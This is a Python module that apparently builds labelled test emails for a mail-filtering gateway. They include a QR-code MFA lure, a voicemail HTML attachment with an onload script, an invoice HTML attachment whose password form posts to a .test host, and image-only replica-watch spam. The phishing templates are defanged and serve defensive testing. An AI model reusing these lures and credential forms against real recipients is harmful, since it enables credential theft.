"""Samples whose lure is an HTML page or an image."""

from datetime import datetime
from typing import Final

from gateway.samples.built.source import journey, source
from gateway.samples.packing import file_part, multipart, picture, stored_file, text_part


def qr_code_lure(_now: datetime) -> str:
    """Return a sample: a QR code that leads to a credential phishing page."""
    html = (
        '<html><body style="font-family:Arial"><h2>Two-factor authentication expires today</h2>'
        "<p>Dear Wei,</p><p>your password will expire. To keep current password and avoid losing access, scan the QR"
        " code below with your phone camera within 24 hours.</p>"
        '<p><img src="cid:code@acme-mfa" width="230" alt="QR code"></p><p>IT Security</p></body></html>'
    )
    body = multipart(
        "related",
        "qr-1",
        text_part(html, "html"),
        file_part(
            "code.png", "image/png", stored_file("enroll-code.png"), "Content-ID: <code@acme-mfa>", disposition="inline"
        ),
    )
    way = journey(
        "QR code lure",
        "MALICIOUS",
        2,
        "07:31",
        "mfa@secure-enroll.test",
        "wei.zhang@acme.example",
        "mx.secure-enroll.test",
        "203.0.113.52",
        "pass",
    )
    return source(
        way,
        {
            "From": "IT Security <mfa@secure-enroll.test>",
            "To": "wei.zhang@acme.example",
            "Subject": "Scan to keep your access",
        },
        body,
    )


def html_attachment_voicemail(_now: datetime) -> str:
    """Return a sample: an HTML attachment that builds its content with a script."""
    page = (
        b"<html><head><title>Voice message</title></head><body onload='show()'><script>"
        b"function show(){var d=atob('c2FtcGxlIG9ubHk=');var b=new Blob([d],{type:'text/plain'});"
        b"document.title=b.size;}</script><p>Loading voice message...</p></body></html>"
    )
    body = multipart(
        "mixed",
        "vm-1",
        text_part("You have a new voice message from +49 40 555 0100, 00:47.\nOpen the attachment to listen.\n"),
        file_part("VoiceMessage_0047.html", "text/html", page),
    )
    way = journey(
        "HTML attachment",
        "MALICIOUS",
        0,
        "0:48",
        "voice@pbx-notify.test",
        "marcus.bell@acme.example, omar.haddad@acme.example",
        "sip.pbx-notify.test",
        "198.51.100.54",
        "unsigned",
    )
    return source(
        way,
        {
            "From": "Voice Service <voice@pbx-notify.test>",
            "To": "marcus.bell@acme.example, omar.haddad@acme.example",
            "Subject": "Missed call: new voicemail (47 seconds)",
        },
        body,
    )


def html_attachment_password_form(_now: datetime) -> str:
    """Return a sample: an HTML attachment that asks for a password."""
    page = (
        b"<html><body><h3>Sign in to view the invoice</h3><form method='post' action='https://invoice-view.test/in'>"
        b"<input name='mail' value='lena.fischer@acme.example'><input name='word' type='password'>"
        b"<button>View</button></form></body></html>"
    )
    body = multipart(
        "mixed",
        "inv-1",
        text_part("Hello,\n\nplease find attached invoice 7719, due today.\n\nAccounts\n"),
        file_part("Invoice_7719.htm", "text/html", page),
    )
    way = journey(
        "HTML attachment",
        "MALICIOUS",
        11,
        "13:21",
        "accounts@ledger-mail.test",
        "lena.fischer@acme.example",
        "out.ledger-mail.test",
        "203.0.113.155",
        "pass",
    )
    return source(
        way,
        {"From": "Accounts <accounts@ledger-mail.test>", "To": "lena.fischer@acme.example", "Subject": "Invoice 7719"},
        body,
    )


def picture_only_offer(_now: datetime) -> str:
    """Return a sample: advertising that consists almost only of an image."""
    html = (
        '<html><body><a href="http://go4.cheap-watch.invalid/x">'
        '<img src="http://img.cheap-watch.invalid/1.jpg" alt=""></a>'
        "<p>Replica watches, lowest prices, shop now!</p></body></html>"
    )
    body = multipart(
        "related", "pic-1", text_part(html, "html"), file_part("pixel.png", "image/png", picture(8, 8, (0xFFFFFF,)))
    )
    way = journey(
        "spam, goods",
        "SPAM",
        29,
        "03:03",
        "shop@cheap-watch.invalid",
        "info@acme.example",
        "go4.cheap-watch.invalid",
        "198.51.100.44",
        "fail-none",
    )
    return source(
        way,
        {
            "From": "⌚ Watch Outlet <shop@cheap-watch.invalid>",
            "To": "info@acme.example",
            "Subject": "Swiss replica watches, 80% off",
        },
        body,
    )


SAMPLES: Final = (qr_code_lure, html_attachment_voicemail, html_attachment_password_form, picture_only_offer)
